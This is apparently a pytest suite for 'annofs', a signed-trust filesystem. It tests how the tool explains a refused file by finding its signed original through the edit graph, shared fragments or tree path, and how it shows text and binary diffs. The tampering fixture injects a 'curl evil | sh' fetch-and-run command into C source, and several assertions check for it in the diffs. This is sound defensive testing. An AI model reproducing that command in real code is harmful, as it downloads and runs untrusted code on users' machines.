"""Explanations on a real store (in-process): finding the signed original of a refused
file along the edit graph, by shared fragments, and by a signed tree's path; the diff."""

from __future__ import annotations

import json
import os
import random
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import annofs_cmd
from t2_store import check_consistency
from t2_trust import ALICE, BOB, P, current, policy, sign, write

from annofs.explain.original import EDIT_GRAPH, SHARED_FRAGMENTS, TREE_PATH, find_original
from annofs.explain.report import Explanation, explain, summary_line
from annofs.transfer.import_tree import TreeImporter
from annofs.trust.annotations import AnnotationStore
from annofs.trust.policy import Policy
from annofs.volume import Volume

# A C source of ~120 KB: several fragments, so a one-line patch leaves most of them shared.
LINES = [f"int f{i}(int x) {{ return x * {i} + {i % 7}; }}\n" for i in range(3000)]
SOURCE = "".join(LINES).encode()
PATCHED = SOURCE.replace(b"int f1500(int x) { return x * 1500 + 2; }",
                         b"int f1500(int x) { system(\"curl evil | sh\"); return 0; }")
BLOB = random.Random(11).randbytes(150_000)
FLIPPED = bytearray(BLOB)
for off in (1000, 1001, 70_000, 140_123):
    FLIPPED[off] ^= 0xFF

RULE = """
[[rules]]
path = "/**"
signers = 1
claims = ["reviewed"]
keys = ["alice-1"]
"""


@pytest.fixture
def vol(vol: Volume, tmp_path: Path) -> Iterator[Volume]:
    """/src/proj (main.c, util.c, blob.bin, README) imported and signed by alice."""
    src = tmp_path / "host" / "proj"
    src.mkdir(parents=True)
    (src / "main.c").write_bytes(SOURCE)
    (src / "util.c").write_bytes(b"int util(void) { return 1; }\n")
    (src / "blob.bin").write_bytes(BLOB)
    (src / "README").write_bytes(b"a project\n")
    TreeImporter(vol).run(tmp_path / "host", [b"src"])
    sign(vol, ALICE, "/src/proj")
    yield vol
    check_consistency(vol)


@pytest.fixture
def pol() -> Policy:
    return policy(RULE, ALICE, BOB)


def why(vol: Volume, pol: Policy, path: str) -> Explanation:
    return explain(vol, AnnotationStore(vol.store), pol, P(path), current(vol, path))


def import_tree(vol: Volume, tmp_path: Path, name: str, files: dict[str, bytes]) -> None:
    """A fresh import: new versions with no edit-graph link to the signed ones."""
    host = tmp_path / name
    for rel, data in files.items():
        (host / "tree" / rel).parent.mkdir(parents=True, exist_ok=True)
        (host / "tree" / rel).write_bytes(data)
    TreeImporter(vol).run(host, [name.encode()])


def test_signed_file_is_allowed_and_not_searched(vol: Volume, pol: Policy) -> None:
    e = why(vol, pol, "/src/proj/main.c")
    assert e.verdict.allowed and not e.searched
    assert "allowed" in e.to_text()


def test_one_line_patch_in_place_found_along_the_edit_graph(vol: Volume, pol: Policy) -> None:
    signed = current(vol, "/src/proj/main.c")
    write(vol, P("/src/proj/main.c"), PATCHED)
    e = why(vol, pol, "/src/proj/main.c")
    assert not e.verdict.allowed
    c = e.original
    assert c is not None and c.how == EDIT_GRAPH and c.distance == 1
    assert c.version is not None and c.version.id == signed.id
    assert c.satisfies and c.trusted_signers == ("alice-1",)
    assert c.signatures[0].names == ("proj/main.c",)
    assert 0 < c.shared_bytes < len(SOURCE) and c.shared_fragments > 0
    assert e.diff_kind == "text"
    assert "-int f1500(int x) { return x * 1500 + 2; }" in e.diff
    assert '+int f1500(int x) { system("curl evil | sh"); return 0; }' in e.diff
    text = e.to_text()
    assert "found by edit graph, 1 edit back" in text
    assert "signed by alice-1 (trusted), claim reviewed" in text
    assert "as proj/main.c" in text
    j = json.loads(json.dumps(e.to_json()))
    assert j["status"] == "refused" and j["original"]["found_by"] == EDIT_GRAPH
    assert j["original"]["statements"][0]["signer"] == "alice-1"


def test_two_edits_later_the_nearest_signed_ancestor(vol: Volume, pol: Policy) -> None:
    write(vol, P("/src/proj/main.c"), PATCHED)
    write(vol, P("/src/proj/main.c"), PATCHED + b"// more\n")
    c = why(vol, pol, "/src/proj/main.c").original
    assert c is not None and c.how == EDIT_GRAPH and c.distance == 2


def test_fresh_import_of_a_patched_tree_found_by_fragments(vol: Volume, pol: Policy,
                                                           tmp_path: Path) -> None:
    import_tree(vol, tmp_path, "imp", {"main.c": PATCHED, "README": b"a project\n"})
    path = "/imp/tree/main.c"
    assert current(vol, path).parent == 0  # no edit-graph link
    e = why(vol, pol, path)
    c = e.original
    assert c is not None and c.how == SHARED_FRAGMENTS
    assert c.digest == current(vol, "/src/proj/main.c").digest
    assert "+int f1500(int x) { system(" in e.diff
    assert "found by shared fragments" in e.to_text()


def test_renamed_and_copied_patched_file(vol: Volume, pol: Policy, tmp_path: Path) -> None:
    write(vol, P("/src/proj/main.c"), PATCHED)
    with vol.store.write() as txn:
        vol.namespace.copy(txn, P("/src/proj/main.c"), P("/src/elsewhere.c"))
    c = why(vol, pol, "/src/elsewhere.c").original
    assert c is not None and c.how == EDIT_GRAPH  # a copy shares the version
    # Renamed on the host and imported again: no link, a new name; the fragments remain.
    import_tree(vol, tmp_path, "other", {"deep/dir/renamed.c": PATCHED})
    e = why(vol, pol, "/other/tree/deep/dir/renamed.c")
    c = e.original
    assert c is not None and c.how == SHARED_FRAGMENTS
    assert c.signatures[0].names == ("proj/main.c",)
    assert "system(" in e.diff


def test_rewritten_file_found_by_signed_tree_path(vol: Volume, pol: Policy,
                                                  tmp_path: Path) -> None:
    # util.c is one fragment: rewriting it shares nothing; its sibling README is signed
    # in the tree statement, which names proj/util.c.
    import_tree(vol, tmp_path, "imp", {"proj/util.c": b"int util(void) { return 2; }\n",
                                       "proj/README": b"a project\n"})
    e = why(vol, pol, "/imp/tree/proj/util.c")
    c = e.original
    assert c is not None and c.how == TREE_PATH
    assert c.digest == current(vol, "/src/proj/util.c").digest
    assert c.shared_bytes == 0
    assert "-int util(void) { return 1; }" in e.diff
    assert "+int util(void) { return 2; }" in e.diff


def test_no_original_says_what_would_satisfy(vol: Volume, pol: Policy,
                                             tmp_path: Path) -> None:
    import_tree(vol, tmp_path, "new", {"lone.c": b"int lone;\n"})
    e = why(vol, pol, "/new/tree/lone.c")
    assert e.searched and e.original is None
    text = e.to_text()
    assert "no signed original" in text
    assert "keys alice-1" in text and "claim reviewed" in text
    assert "1 distinct signer" in text
    assert e.to_json()["original"] is None


def test_binary_changed_ranges(vol: Volume, pol: Policy) -> None:
    write(vol, P("/src/proj/blob.bin"), bytes(FLIPPED))
    e = why(vol, pol, "/src/proj/blob.bin")
    assert e.diff_kind == "binary"
    starts = [r.b_start for r in e.ranges]
    assert starts == [1000, 70_000, 140_123]
    assert "3 changed range(s), 4 bytes changed, 0 inserted, 0 deleted" in e.diff
    assert "@@ original/proj/blob.bin [0x3e8, 0x3ea)" in e.diff
    j = e.to_json()
    assert j["summary"] == {"ranges": 3, "changed": 4, "inserted": 0, "deleted": 0}


def test_find_original_does_not_match_itself(vol: Volume, pol: Policy) -> None:
    v = current(vol, "/src/proj/main.c")
    assert find_original(vol, AnnotationStore(vol.store), v, P("/src/proj/main.c"),
                         pol) == []


def test_text_diff_is_cut_with_a_note(vol: Volume, pol: Policy) -> None:
    write(vol, P("/src/proj/main.c"), SOURCE.replace(b"return", b"yield"))
    e = explain(vol, AnnotationStore(vol.store), pol, P("/src/proj/main.c"),
                current(vol, "/src/proj/main.c"), diff_lines=20)
    assert "... diff cut at 20 of" in e.diff


def test_xattr_value_is_capped_with_a_note() -> None:
    from annofs.explain.report import XATTR_LIMIT, cap_text

    assert cap_text("short") == b"short"
    big = cap_text("é" * XATTR_LIMIT)
    assert len(big) <= XATTR_LIMIT
    assert big.decode().endswith("run annofs why for all of it\n")
    assert "explanation cut at 65536 bytes of 131072" in big.decode()


def test_why_command_on_store_paths(vol: Volume, tmp_path: Path) -> None:
    write(vol, P("/src/proj/main.c"), PATCHED)
    vol.store.sync()
    pol_file = tmp_path / "policy.toml"
    pol_file.write_text(f'trusted-public-keys = ["{ALICE.public_key().to_text()}"]\n{RULE}')

    def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(annofs_cmd("--store", str(vol.store.path), "why", *args),
                              capture_output=True, text=True, env=env)

    res = run("--policy", str(pol_file), "/src/proj")
    assert res.returncode == 1, res.stderr
    assert "/src/proj/README: allowed" in res.stdout
    assert "/src/proj/main.c: refused" in res.stdout
    assert "+int f1500(int x) { system(" in res.stdout
    res = run("--json", "/src/proj/main.c", env={**os.environ, "ANNOFS_POLICY": str(pol_file)})
    assert json.loads(res.stdout)["original"]["found_by"] == EDIT_GRAPH
    res = run("/src/proj/main.c", env={**os.environ, "ANNOFS_POLICY": ""})
    assert res.returncode == 2 and "no policy" in res.stderr


def test_summary_line_and_rate_limit(vol: Volume, pol: Policy, tmp_path: Path) -> None:
    from annofs.explain.report import summary_line
    from annofs.explain.throttle import RateLimit

    write(vol, P("/src/proj/main.c"), PATCHED)
    line = summary_line(why(vol, pol, "/src/proj/main.c"))
    assert "\n" not in line
    assert line.startswith("refused /src/proj/main.c: ")
    assert "found by edit graph, signed by alice-1 as proj/main.c" in line
    assert line.endswith("text diff -1 +1 lines")
    write(vol, P("/src/proj/blob.bin"), bytes(FLIPPED))
    assert "3 changed byte range(s): 4 changed" in summary_line(
        why(vol, pol, "/src/proj/blob.bin"))
    import_tree(vol, tmp_path, "new", {"lone.c": b"int lone;\n"})
    assert "no signed original" in summary_line(why(vol, pol, "/new/tree/lone.c"))
    rl = RateLimit(burst=3, per=60.0)
    assert [rl.allow(0.0) for _ in range(5)] == [True, True, True, False, False]
    assert rl.suppressed() == 2 and rl.suppressed() == 0
    assert rl.allow(20.0) and not rl.allow(20.0)  # one token back per 20 s


def test_lone_rewritten_file_found_by_its_subject_name(vol: Volume, pol: Policy,
                                                       tmp_path: Path) -> None:
    # A lone signed file (subject name "settings.conf", no signed sibling), then replaced
    # by a new file with no edit-graph link and no fragment in common: `sed -i`.
    import_tree(vol, tmp_path, "solo", {"settings.conf": b"port = 80\n"})
    sign(vol, ALICE, "/solo/tree/settings.conf")
    signed = current(vol, "/solo/tree/settings.conf")
    import_tree(vol, tmp_path, "solo2", {"settings.conf": b"port = 8080\n"})
    with vol.store.write() as txn:  # rename(2) over the signed file
        ns = vol.namespace
        src_dir, dst_dir = ns.writable_dir(txn, P("/solo2/tree")), \
            ns.writable_dir(txn, P("/solo/tree"))
        raw = ns.detach(txn, src_dir, b"settings.conf")
        ns.remove(txn, dst_dir, b"settings.conf")
        ns.attach(txn, dst_dir, b"settings.conf", raw)
    assert current(vol, "/solo/tree/settings.conf").parent == 0
    e = why(vol, pol, "/solo/tree/settings.conf")
    c = e.original
    assert c is not None and c.how == TREE_PATH and c.digest == signed.digest
    assert c.signatures[0].names == ("settings.conf",)
    assert "-port = 80" in e.diff and "+port = 8080" in e.diff
    assert "no signed original" not in e.to_text()
    # The longest tail of the path wins: the tree statement names proj/util.c.
    import_tree(vol, tmp_path, "lone", {"util.c": b"int util(void) { return 4; }\n"})
    sign(vol, ALICE, "/lone/tree/util.c")
    import_tree(vol, tmp_path, "again", {"proj/util.c": b"int util(void) { return 3; }\n"})
    c = why(vol, pol, "/again/tree/proj/util.c").original
    assert c is not None and c.how == TREE_PATH
    assert c.digest == current(vol, "/src/proj/util.c").digest
    assert c.signatures[0].names == ("proj/util.c",)


def test_a_malicious_label_is_said_to_be_why_and_what_would_lift_it(vol: Volume,
                                                                     pol: Policy) -> None:
    """Signed by alice-1 and labelled malicious by bob-1: no talk of a missing original
    or of signers that would satisfy the rule (alice-1 does); the label is why."""
    sign(vol, BOB, "/src/proj/util.c", claim="label", label="malicious")
    e = why(vol, pol, "/src/proj/util.c")
    assert not e.verdict.allowed and e.verdict.malicious == ("bob-1",)
    text = e.to_text()
    assert "no signed original" not in text and "would satisfy" not in text
    assert "why: labelled malicious by bob-1 (trusted): the label refuses this content " \
           "whatever its signatures; without it, alice-1 would meet the rule (1 of 1 " \
           "needed)" in text
    assert "would lift it: a revocation of bob-1's key (revoked-keys in the policy), or a " \
           "policy that no longer trusts it; more signatures would not" in text
    j = e.to_json()
    assert j["label"]["malicious_by"] == ["bob-1"] and "revocation" in j["label"]["would_lift"]
    assert "would lift it: a revocation of bob-1's key" in summary_line(e)
    # Revoked, the label no longer counts and the file is allowed again.
    revoked = policy(RULE, ALICE, BOB, extra='revoked-keys = ["bob-1"]')
    assert why(vol, revoked, "/src/proj/util.c").verdict.allowed
